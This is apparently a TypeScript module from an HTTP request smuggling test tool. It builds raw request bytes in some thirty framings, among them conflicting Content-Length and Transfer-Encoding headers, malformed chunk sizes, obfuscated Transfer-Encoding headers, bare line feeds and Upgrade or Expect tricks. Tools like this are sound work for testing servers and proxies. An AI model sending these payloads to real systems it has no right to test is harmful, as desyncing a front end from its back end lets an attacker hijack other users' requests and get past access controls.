/** The parts of an HTTP request smuggling attack: a request line, headers, and a body that hides a request. */
export interface AttackParts {
  method: string;
  path: string;
  headers: string;
  /** The body of the route group, with a complete request hidden in it. */
  body: string;
  /** Head of a hidden request with a long Content-Length: the next bytes of the connection would become its body. */
  unfinishedRequest: string;
  /** Bytes of a second request on the same connection, which is not hidden (pipelining). */
  next: string;
}

/** A way to frame the body of a request. */
export interface AttackShape {
  name: string;
  /** True if the server must respond without further bytes. */
  needsResponse: boolean;
  bytes: (parts: AttackParts) => string;
}

const request = ({ method, path, headers }: AttackParts, more: string, body = '', version = 'HTTP/1.1'): string =>
  `${method} ${path} ${version}\r\n${headers}${more}\r\n${body}`;

const chunk = (text: string, extension = ''): string => `${text.length.toString(16)}${extension}\r\n${text}\r\n`;
const lastChunk = '0\r\n\r\n';
const chunkedHeader = 'Transfer-Encoding: chunked\r\n';
const lengthHeader = (length: number): string => `Content-Length: ${length}\r\n`;
const counted = (parts: AttackParts, more = '', difference = 0): string =>
  request(parts, lengthHeader(parts.body.length + difference) + more, parts.body);
const chunked = (parts: AttackParts, more = '', body = chunk(parts.body) + lastChunk): string =>
  request(parts, chunkedHeader + more, body);

const whole = (name: string, bytes: AttackShape['bytes']): AttackShape => ({ name, needsResponse: true, bytes });
const partial = (name: string, bytes: AttackShape['bytes']): AttackShape => ({ name, needsResponse: false, bytes });

/** Framings that are sent with every method. */
export const shapes: readonly AttackShape[] = [
  whole('no body', (parts) => request(parts, '')),
  whole('a length', (parts) => counted(parts)),
  whole('chunks', (parts) => chunked(parts)),
  whole('chunks with an unfinished request', (parts) => chunked(parts, '', chunk(parts.unfinishedRequest) + lastChunk)),
  whole('a length and chunks', (parts) => chunked(parts, lengthHeader(5))),
  partial('a body shorter than its Content-Length', (parts) =>
    request(parts, lengthHeader(parts.body.length + 9), parts.body),
  ),
  partial('chunks without the last chunk', (parts) => chunked(parts, '', chunk(parts.body))),
  whole('a length that is too short', (parts) => request(parts, lengthHeader(0), parts.next)),
  whole('a second request at once', (parts) => request(parts, '') + parts.next),
  whole('chunk extensions', (parts) => chunked(parts, '', chunk(parts.body, ';a="b;c"') + lastChunk)),
  whole('a chunk size that is not a number', (parts) => chunked(parts, '', `xyz\r\n${parts.body}\r\n${lastChunk}`)),
  whole('Expect: 100-continue', (parts) => counted(parts, 'Expect: 100-continue\r\n')),
  whole('Upgrade', (parts) => request(parts, 'Connection: Upgrade\r\nUpgrade: websocket\r\n', parts.next)),
];

/** Framings that are sent with GET and POST only. */
export const moreShapes: readonly AttackShape[] = [
  whole('a chunk size that is too large', (parts) => chunked(parts, '', `fffffffffffffffff\r\n${parts.body}`)),
  whole('chunks with trailers', (parts) =>
    chunked(parts, '', `${chunk(parts.body)}0\r\nX-Hidden: ${'x'.repeat(9)}\r\n\r\n`),
  ),
  whole('line feeds between chunks', (parts) =>
    chunked(parts, '', `${parts.body.length.toString(16)}\n${parts.body}\n0\n\n`),
  ),
  whole('two lengths', (parts) => counted(parts, lengthHeader(0))),
  whole('a length with a sign', (parts) => request(parts, `Content-Length: +${parts.body.length}\r\n`, parts.body)),
  whole('an unknown coding', (parts) => request(parts, 'Transfer-Encoding: xchunked\r\n', parts.body)),
  whole('two codings', (parts) => request(parts, 'Transfer-Encoding: chunked, identity\r\n', parts.body)),
  whole('a blank before the colon', (parts) => request(parts, 'Transfer-Encoding : chunked\r\n', parts.body)),
  whole('a folded header', (parts) => request(parts, 'Transfer-Encoding:\r\n chunked\r\n', parts.body)),
  whole('a bare line feed in the head', (parts) => request(parts, `X: y\n${chunkedHeader}`, parts.body)),
  whole('Connection: content-length', (parts) => counted(parts, 'Connection: content-length, x-trace-id\r\n')),
  whole('Connection: close, transfer-encoding', (parts) => chunked(parts, 'Connection: close, transfer-encoding\r\n')),
  partial('Expect: 100-continue without a body', (parts) =>
    request(parts, `${lengthHeader(parts.body.length)}Expect: 100-continue\r\n`),
  ),
  whole('Expect: anything', (parts) => counted(parts, 'Expect: anything\r\n')),
  whole('Upgrade: h2c with a length', (parts) => counted(parts, 'Connection: Upgrade\r\nUpgrade: h2c\r\n')),
  whole('chunks of HTTP/1.0', (parts) =>
    request(parts, `Connection: keep-alive\r\n${chunkedHeader}`, chunk(parts.body) + lastChunk, 'HTTP/1.0'),
  ),
  whole('another method in a header', (parts) => counted(parts, 'X-HTTP-Method-Override: DELETE\r\n')),
];

export const methods = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'QUERY',
  'TRACE',
  'STRUMA',
] as const;
